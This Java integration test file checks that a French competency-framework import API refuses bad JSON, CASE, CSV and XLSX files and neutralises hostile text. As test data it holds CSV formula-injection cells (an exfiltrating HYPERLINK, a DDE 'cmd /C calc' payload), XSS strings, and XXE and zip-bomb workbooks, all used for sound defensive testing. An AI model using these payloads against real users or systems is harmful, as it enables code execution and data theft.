package fr.referentia.framework.exchange;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.startsWith;
import static org.springframework.security.test.web.servlet.request.SecurityMockMvcRequestPostProcessors.httpBasic;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.multipart;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.content;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.jsonPath;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import fr.referentia.IntegrationTest;
import fr.referentia.framework.FrameworkItem;
import fr.referentia.shared.spreadsheet.CraftedXlsx;
import jakarta.persistence.EntityManager;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.hibernate.search.mapper.orm.Search;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.mock.web.MockMultipartFile;
import org.springframework.test.web.servlet.MockMvc;
import org.springframework.test.web.servlet.ResultActions;
import org.springframework.test.web.servlet.request.MockHttpServletRequestBuilder;
import org.springframework.transaction.support.TransactionTemplate;

/**
 * The bad inputs of issue 4 through the real import API, each entry point (JSON body, multipart upload of
 * canonical JSON, CASE, XLSX, CSV): a 4xx problem detail in French, and the database and the search index
 * exactly as before (row counts, and no indexed item holding a word of the file). docs/bad-input.md maps
 * every case to its test, here or elsewhere.
 */
@IntegrationTest
class BadInputImportTest {

    static final String ADMIN = "branch-admin@demo.referentia.fr";
    static final String PASSWORD = "referentia-demo";

    @Autowired
    MockMvc mvc;

    @Autowired
    ObjectMapper json;

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    EntityManager entityManager;

    @Autowired
    TransactionTemplate transactions;

    // ---------------------------------------------------------------- refused, nothing written

    @Test
    void canonicalJsonWithAnUnknownItemTypeIsRefusedByTheBodyAndTheUpload() throws Exception {
        ObjectNode file = canonical("TYPE-INCONNU", "quetzalcoatlus");
        ((ObjectNode) file.withArray("items").get(0)).put("type", "MACHIN");
        refused(body(file.toString().getBytes(StandardCharsets.UTF_8)), "quetzalcoatlus")
                .andExpect(jsonPath("$.detail", containsString("« MACHIN » inconnue pour « type »")));
        refused(upload("referentiel.json", file.toString().getBytes(StandardCharsets.UTF_8)), "quetzalcoatlus")
                .andExpect(jsonPath("$.detail", containsString("« MACHIN » inconnue pour « type »")));
    }

    @Test
    void canonicalJsonWithDanglingAssociationsAndExamsIsRefusedWithEveryProblem() throws Exception {
        ObjectNode file = canonical("ASSOCIATION-PENDANTE", "brachiosaurus");
        file.putArray("associations").addObject().put("type", "VALIDATES").put("originCode", "C1")
                .put("destinationCode", "NULLE-PART");
        file.putArray("exams").addObject().put("code", "EP1").put("title", "Épreuve")
                .putArray("itemCodes").add("FANTOME");
        for (MockHttpServletRequestBuilder request : List.of(body(bytes(file)), upload("r.json", bytes(file)))) {
            refused(request, "brachiosaurus")
                    .andExpect(jsonPath("$.errors", hasItem(containsString("destination « NULLE-PART » introuvable"))))
                    .andExpect(jsonPath("$.errors", hasItem(containsString("élément évalué « FANTOME » introuvable"))));
        }
    }

    @Test
    void aCaseItemWhoseTypeLinkLeadsOutsideThePackageIsRefusedByTheBodyAndTheUpload() throws Exception {
        JsonNode pkg = json.readTree(mvc.perform(get("/api/v1/frameworks/CQP-CONSEILLER-COMMERCIAL/export")
                .param("format", "case")).andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray());
        ObjectNode item = (ObjectNode) pkg.get("CFItems").get(0);
        item.put("fullStatement", "Pterodactylus " + item.get("fullStatement").asText());
        String code = item.get("humanCodingScheme").asText();
        ObjectNode link = (ObjectNode) item.get("CFItemTypeURI");
        String missing = UUID.randomUUID().toString();
        link.put("identifier", missing).put("uri", "urn:uuid:" + missing).put("title", "Type venu d'ailleurs");
        String expected = "Élément « " + code + " » : son type « Type venu d'ailleurs » (CFItemTypeURI " + missing
                + ") n'est pas défini dans le paquet";
        refused(body(bytes(pkg)).param("code", "CASE-TYPE-PENDANT"), "pterodactylus")
                .andExpect(jsonPath("$.errors", hasItem(containsString(expected))));
        refused(upload("paquet.json", bytes(pkg)).param("format", "case").param("code", "CASE-TYPE-PENDANT"),
                "pterodactylus")
                .andExpect(jsonPath("$.errors", hasItem(containsString(expected))));
    }

    @Test
    void aCasePackageWithADuplicateADanglingAssociationAndACycleIsRefusedByTheBodyAndTheUpload() throws Exception {
        JsonNode pkg = json.readTree(mvc.perform(get("/api/v1/frameworks/CQP-CONSEILLER-COMMERCIAL/export")
                .param("format", "case")).andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray());
        ((ObjectNode) pkg.get("CFDocument")).put("title", "Paquet iguanodon");
        ArrayNode items = (ArrayNode) pkg.get("CFItems");
        ((ObjectNode) items.get(0)).put("fullStatement", "Iguanodon " + items.get(0).get("fullStatement").asText());
        items.add(items.get(1).deepCopy());
        String first = items.get(0).get("identifier").asText();
        String second = items.get(2).get("identifier").asText();
        ArrayNode associations = (ArrayNode) pkg.get("CFAssociations");
        // Dangling: outside the package, unknown here, and without a title to keep as a label.
        ObjectNode dangling = caseAssociation(associations.get(0), "isRelatedTo", first, UUID.randomUUID().toString());
        ((ObjectNode) dangling.get("destinationNodeURI")).put("title", "");
        associations.add(dangling);
        associations.add(caseAssociation(associations.get(0), "isChildOf", first, second));
        associations.add(caseAssociation(associations.get(0), "isChildOf", second, first));
        for (MockHttpServletRequestBuilder request : List.of(body(bytes(pkg)).param("code", "CASE-FAUTIF"),
                upload("paquet.json", bytes(pkg)).param("code", "CASE-FAUTIF"))) {
            refused(request, "iguanodon")
                    .andExpect(jsonPath("$.errors", hasItem(containsString("en double"))))
                    .andExpect(jsonPath("$.errors", hasItem(containsString("n'est pas un élément du paquet"))))
                    .andExpect(jsonPath("$.errors", hasItem(containsString("Cycle dans les associations isChildOf"))));
        }
    }

    private ObjectNode caseAssociation(JsonNode model, String type, String origin, String destination) {
        ObjectNode association = model.deepCopy();
        String id = UUID.randomUUID().toString();
        association.put("identifier", id).put("uri", "urn:uuid:" + id).put("associationType", type);
        association.remove("extensions");
        association.remove("sequenceNumber");
        ((ObjectNode) association.get("originNodeURI")).put("identifier", origin).put("uri", "urn:uuid:" + origin);
        ((ObjectNode) association.get("destinationNodeURI")).put("identifier", destination)
                .put("uri", "urn:uuid:" + destination);
        return association;
    }

    @Test
    void latin1AndUtf16JsonAreRefusedAsNotUtf8() throws Exception {
        String file = canonical("ENCODAGE", "ankylosaurus é").toString();
        byte[] utf16 = withBom(new byte[] {(byte) 0xFF, (byte) 0xFE}, file.getBytes(StandardCharsets.UTF_16LE));
        // Without its « é », UTF-16 without a byte order mark is valid UTF-8, with a NUL every other byte.
        byte[] asciiUtf16 = file.replace(" é", "").getBytes(StandardCharsets.UTF_16LE);
        for (byte[] encoded : List.of(file.getBytes(StandardCharsets.ISO_8859_1), utf16,
                file.getBytes(StandardCharsets.UTF_16LE), asciiUtf16)) {
            refused(body(encoded), "ankylosaurus").andExpect(jsonPath("$.detail", containsString("UTF-8")));
            refused(upload("r.json", encoded), "ankylosaurus").andExpect(jsonPath("$.detail", containsString("UTF-8")));
        }
    }

    @Test
    void latin1AndUtf16CsvAreRefusedAsNotUtf8() throws Exception {
        String csv = "code;code_parent;type;texte\nC1;;COMPETENCY;Compétence diplodocus\n";
        byte[] utf16 = withBom(new byte[] {(byte) 0xFF, (byte) 0xFE}, csv.getBytes(StandardCharsets.UTF_16LE));
        byte[] asciiUtf16 = csv.replace("Compétence", "Competence").getBytes(StandardCharsets.UTF_16LE);
        for (byte[] encoded : List.of(csv.getBytes(StandardCharsets.ISO_8859_1), utf16,
                csv.getBytes(StandardCharsets.UTF_16LE), asciiUtf16)) {
            refused(sheet("items.csv", encoded, "CSV-ENCODAGE"), "diplodocus")
                    .andExpect(jsonPath("$.errors", hasItem(containsString("UTF-8"))));
        }
    }

    @Test
    void anXlsxWithUnknownTypesDuplicatesDanglingParentsAndACycleIsRefusedCellByCell() throws Exception {
        byte[] xlsx = workbook(List.of(
                List.of("C1", "", "COMPETENCY", "Compétence stegosaurus"),
                List.of("C1", "", "COMPETENCY", "Doublon stegosaurus"),
                List.of("C2", "", "MACHIN", "Type inconnu stegosaurus"),
                List.of("E1", "C9", "ELEMENT", "Parent absent stegosaurus")));
        refused(sheet("items.xlsx", xlsx, "XLSX-FAUTIF"), "stegosaurus")
                .andExpect(jsonPath("$.cells[?(@.row == 3 && @.column == 'code')].message",
                        hasItem(containsString("déjà en ligne 2"))))
                .andExpect(jsonPath("$.cells[?(@.row == 4 && @.column == 'type')].message",
                        hasItem(containsString("MACHIN"))))
                .andExpect(jsonPath("$.cells[?(@.row == 5 && @.column == 'code_parent')].message",
                        hasItem(containsString("« C9 » introuvable"))));
        // A cycle is found once every cell reads well.
        byte[] cycle = workbook(List.of(List.of("A", "B", "COMPETENCY", "Cycle stegosaurus"),
                List.of("B", "A", "COMPETENCY", "Cycle stegosaurus")));
        refused(sheet("items.xlsx", cycle, "XLSX-CYCLE"), "stegosaurus")
                .andExpect(jsonPath("$.errors", hasItem(containsString("cycle"))));
    }

    @Test
    void aCycleInACsvIsRefused() throws Exception {
        String csv = "code;code_parent;type;texte\nA;B;COMPETENCY;Un triceratops\nB;A;COMPETENCY;Deux triceratops\n";
        refused(sheet("items.csv", csv.getBytes(StandardCharsets.UTF_8), "CSV-CYCLE"), "triceratops")
                .andExpect(jsonPath("$.errors", hasItem(containsString("cycle"))));
    }

    @Test
    void anXlsxWithAFarRightCellOnTwentyThousandRowsIsRefusedFromItsSizeAndNothingIsImported() throws Exception {
        // The rows of a valid referential, then one value in column XFD on each of 20,000 rows.
        java.util.function.Function<Boolean, byte[]> file = declared -> CraftedXlsx.withSheet(xml -> {
            xml.append("<?xml version=\"1.0\" encoding=\"UTF-8\"?><worksheet xmlns=\"")
                    .append("http://schemas.openxmlformats.org/spreadsheetml/2006/main\">")
                    .append(declared ? "<dimension ref=\"A1:XFD20002\"/>" : "").append("<sheetData>")
                    .append(CraftedXlsx.row(1, "code", "code_parent", "type", "texte"))
                    .append(CraftedXlsx.row(2, "C1", "", "COMPETENCY", "Compétence brachiosaurus"));
            for (int r = 3; r <= 20_002; r++) {
                xml.append("<row r=\"").append(r).append("\">").append(CraftedXlsx.cell("XFD" + r, "x"))
                        .append("</row>");
            }
            xml.append("</sheetData></worksheet>");
        });
        refused(sheet("items.xlsx", file.apply(true), "XLSX-DIMENSION"), "brachiosaurus")
                .andExpect(jsonPath("$.errors", hasItem(containsString("XFD20002"))));
        refused(sheet("items.xlsx", file.apply(false), "XLSX-XFD"), "brachiosaurus")
                .andExpect(jsonPath("$.errors", hasItem(startsWith("ligne 3, colonne XFD : une valeur au-delà"))));
        byte[] emptyRows = CraftedXlsx.emptyRowsAfter(25_000, new String[] {"code", "type", "texte"},
                new String[] {"C1", "COMPETENCY", "Compétence brachiosaurus"});
        refused(sheet("items.xlsx", emptyRows, "XLSX-VIDES"), "brachiosaurus")
                .andExpect(jsonPath("$.errors", hasItem(containsString("lignes vides comprises"))));
    }

    @Test
    void anXlsxDeclaringAnExternalEntityOrInflatingLikeABombIsRefusedAndNothingIsImported(@TempDir Path folder)
            throws Exception {
        Path secret = Files.writeString(folder.resolve("secret.txt"), "contenu-secret-du-serveur");
        refused(sheet("items.xlsx", CraftedXlsx.externalEntityInSheet(secret.toUri().toString()), "XLSX-XXE"),
                "secret")
                .andExpect(jsonPath("$.errors", hasItem(containsString("entité externe"))))
                .andExpect(content().string(not(containsString("contenu-secret"))));
        refused(sheet("items.xlsx", CraftedXlsx.externalEntityInSharedStrings(secret.toUri().toString()),
                "XLSX-XXE-SST"), "secret").andExpect(jsonPath("$.errors", hasItem(containsString("entité externe"))));
        refused(sheet("items.xlsx", CraftedXlsx.zipBomb(40), "XLSX-BOMBE"), "bombe")
                .andExpect(jsonPath("$.errors", hasItem(containsString("bombe de décompression"))));
    }

    // ---------------------------------------------------------------- accepted, neutralised

    @Test
    void formulaLikeCellsAreKeptAsTextAndExportedNeutralised() throws Exception {
        String hyperlink = "=HYPERLINK(\"http://exemple.invalid/?\"&A1;\"Cliquez\")";
        String command = "+cmd|' /C calc'!A0";
        String csv = "code;code_parent;type;texte\n"
                + "C1;;COMPETENCY;\"" + hyperlink.replace("\"", "\"\"") + "\"\n"
                + "C2;;COMPETENCY;" + command + "\n"
                + "C3;;COMPETENCY;@SOMME(1;2)\n".replace("@SOMME(1;2)", "\"@SOMME(1;2)\"")
                + "C4;;COMPETENCY;-2+3 apatosaurus\n";
        mvc.perform(sheet("items.csv", csv.getBytes(StandardCharsets.UTF_8), "CSV-FORMULES"))
                .andExpect(status().isCreated());
        byte[] xlsx = workbook(List.of(List.of("C1", "", "COMPETENCY", hyperlink), List.of("C2", "", "COMPETENCY", command)));
        mvc.perform(sheet("items.xlsx", xlsx, "XLSX-FORMULES")).andExpect(status().isCreated());

        // Stored verbatim: a text, never evaluated.
        JsonNode items = json.readTree(export("CSV-FORMULES", "json")).get("items");
        assertThat(items.findValuesAsText("text")).containsExactly(hyperlink, command, "@SOMME(1;2)", "-2+3 apatosaurus");
        assertThat(json.readTree(export("XLSX-FORMULES", "json")).get("items").findValuesAsText("text"))
                .containsExactly(hyperlink, command);

        // CSV: every such cell starts with an apostrophe; XLSX: string cells, never formulas, text intact.
        String exported = new String(export("CSV-FORMULES", "csv"), StandardCharsets.UTF_8);
        assertThat(exported).contains("\"'=HYPERLINK(\"\"http://", "'+cmd|' /C calc'!A0", "'@SOMME(1;2)",
                "'-2+3 apatosaurus");
        assertThat(exported.lines().skip(1).map(line -> line.split(";", -1)[4]))
                .allSatisfy(cell -> assertThat(cell).matches("^\"?'.*"));
        try (Workbook workbook = new XSSFWorkbook(new ByteArrayInputStream(export("CSV-FORMULES", "xlsx")))) {
            Sheet sheet = workbook.getSheet(ItemSheet.ITEMS_SHEET);
            List<String> texts = new ArrayList<>();
            for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                assertThat(sheet.getRow(r).getCell(4).getCellType()).isEqualTo(CellType.STRING);
                texts.add(sheet.getRow(r).getCell(4).getStringCellValue());
            }
            assertThat(texts).containsExactly(hyperlink, command, "@SOMME(1;2)", "-2+3 apatosaurus");
        }
    }

    @Test
    void htmlAndScriptInItemTextAreStoredVerbatimAndRenderedEscapedEverywhere() throws Exception {
        String script = "<script>alert(1)</script> Accueillir les velociraptors";
        String image = "<img src=x onerror=alert(2)> Informer les velociraptors";
        ObjectNode file = canonical("HTML-HOSTILE", "velociraptors");
        file.with("framework").put("code", "HTML-HOSTILE").put("status", "PUBLISHED");
        ArrayNode items = file.withArray("items");
        items.removeAll();
        items.addObject().put("code", "C1").put("type", "COMPETENCY").put("text", script);
        items.addObject().put("code", "C2").put("type", "COMPETENCY").put("text", image);
        mvc.perform(body(bytes(file)).param("publish", "true")).andExpect(status().isCreated());

        assertThat(json.readTree(export("HTML-HOSTILE", "json")).get("items").findValuesAsText("text"))
                .containsExactly(script, image);
        for (String page : List.of("/referentiels/HTML-HOSTILE", "/referentiels/HTML-HOSTILE/elements/C1",
                "/referentiels/HTML-HOSTILE/elements/C2", "/recherche?q=velociraptors&framework=HTML-HOSTILE")) {
            String html = mvc.perform(get(page)).andExpect(status().isOk()).andReturn().getResponse()
                    .getContentAsString();
            assertThat(html).as(page).doesNotContain("<script>alert", "<img src=x", "<img src=\"x\"")
                    .containsAnyOf("&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=alert(2)&gt;");
            Document dom = Jsoup.parse(html);
            assertThat(dom.select("img[onerror], script:containsData(alert)")).as(page).isEmpty();
        }
        // Search highlighting: the text escaped, only <mark> as markup, on the page and in the API.
        String results = mvc.perform(get("/recherche").param("q", "velociraptors").param("framework", "HTML-HOSTILE"))
                .andReturn().getResponse().getContentAsString();
        assertThat(Jsoup.parse(results).select("p.highlight").eachText()).containsExactlyInAnyOrder(script, image);
        assertThat(Jsoup.parse(results).select("p.highlight mark").eachText()).contains("velociraptors");
        mvc.perform(get("/api/v1/search").param("q", "velociraptors").param("framework", "HTML-HOSTILE"))
                .andExpect(status().isOk())
                .andExpect(jsonPath("$.hits[*].text", hasItem(script)))
                .andExpect(jsonPath("$.hits[*].highlight", hasItem(
                        "&lt;script&gt;alert(1)&lt;&#x2F;script&gt; Accueillir les <mark>velociraptors</mark>")))
                .andExpect(jsonPath("$.hits[*].highlight", hasItem(
                        "&lt;img src=x onerror=alert(2)&gt; Informer les <mark>velociraptors</mark>")));
        // PDF: the markup is printed as text, not interpreted.
        try (PDDocument pdf = Loader.loadPDF(export("HTML-HOSTILE", "pdf"))) {
            String text = new PDFTextStripper().getText(pdf).replaceAll("\\s+", " ");
            assertThat(text).contains("<script>alert(1)</script> Accueillir les velociraptors",
                    "<img src=x onerror=alert(2)> Informer les velociraptors");
        }
    }

    // ---------------------------------------------------------------- helpers

    /** Performs a request that must be refused, and checks that nothing was written or indexed. */
    private ResultActions refused(MockHttpServletRequestBuilder request, String wordOfTheFile) throws Exception {
        long[] before = counts();
        ResultActions result = mvc.perform(request)
                .andExpect(status().is4xxClientError())
                .andExpect(content().contentTypeCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON))
                .andExpect(jsonPath("$.detail").isString());
        assertThat(counts()).as("frameworks and items after a refused import").containsExactly(before);
        assertThat(indexed(wordOfTheFile)).as("indexed items holding « " + wordOfTheFile + " »").isZero();
        return result;
    }

    private long[] counts() {
        return new long[] {jdbc.queryForObject("select count(*) from framework", Long.class),
                jdbc.queryForObject("select count(*) from framework_item", Long.class),
                jdbc.queryForObject("select count(*) from item_association", Long.class),
                jdbc.queryForObject("select count(*) from exam", Long.class)};
    }

    /** Items in the search index, of any version and status, whose text matches the word. */
    private long indexed(String word) {
        return transactions.execute(tx -> Search.session(entityManager).search(FrameworkItem.class)
                .where(f -> f.match().field("text").matching(word)).fetchTotalHitCount());
    }

    private ObjectNode canonical(String code, String word) {
        ObjectNode file = json.createObjectNode();
        file.put("format", "referentia/framework@1");
        file.putObject("framework").put("code", code + "-" + UUID.randomUUID().toString().substring(0, 6).toUpperCase())
                .put("kind", "CQP").put("title", "Référentiel " + word).put("version", "1").put("status", "DRAFT");
        file.putArray("items").addObject().put("code", "C1").put("type", "COMPETENCY")
                .put("text", "Compétence " + word);
        return file;
    }

    private byte[] bytes(JsonNode node) throws Exception {
        return json.writeValueAsBytes(node);
    }

    private static byte[] withBom(byte[] bom, byte[] content) {
        byte[] all = new byte[bom.length + content.length];
        System.arraycopy(bom, 0, all, 0, bom.length);
        System.arraycopy(content, 0, all, bom.length, content.length);
        return all;
    }

    private static byte[] workbook(List<List<String>> rows) throws Exception {
        try (Workbook workbook = new XSSFWorkbook()) {
            Sheet sheet = workbook.createSheet(ItemSheet.ITEMS_SHEET);
            List<String> header = List.of("code", "code_parent", "type", "texte");
            Row first = sheet.createRow(0);
            for (int c = 0; c < header.size(); c++) {
                first.createCell(c, CellType.STRING).setCellValue(header.get(c));
            }
            for (int r = 0; r < rows.size(); r++) {
                Row row = sheet.createRow(r + 1);
                for (int c = 0; c < rows.get(r).size(); c++) {
                    if (!rows.get(r).get(c).isEmpty()) {
                        row.createCell(c, CellType.STRING).setCellValue(rows.get(r).get(c));
                    }
                }
            }
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            workbook.write(out);
            return out.toByteArray();
        }
    }

    private byte[] export(String code, String format) throws Exception {
        return mvc.perform(get("/api/v1/frameworks/" + code + "/export").param("format", format)
                        .param("version", "1").with(httpBasic(ADMIN, PASSWORD)))
                .andExpect(status().isOk()).andReturn().getResponse().getContentAsByteArray();
    }

    private static MockHttpServletRequestBuilder body(byte[] content) {
        return post("/api/v1/frameworks/import").with(httpBasic(ADMIN, PASSWORD))
                .contentType(MediaType.APPLICATION_JSON).content(content);
    }

    private static MockHttpServletRequestBuilder upload(String filename, byte[] content) {
        return multipart("/api/v1/frameworks/import")
                .file(new MockMultipartFile("file", filename, "application/octet-stream", content))
                .with(httpBasic(ADMIN, PASSWORD));
    }

    private static MockHttpServletRequestBuilder sheet(String filename, byte[] content, String code) {
        return upload(filename, content).param("code", code).param("title", "Feuille").param("kind", "CQP")
                .param("version", "1");
    }
}
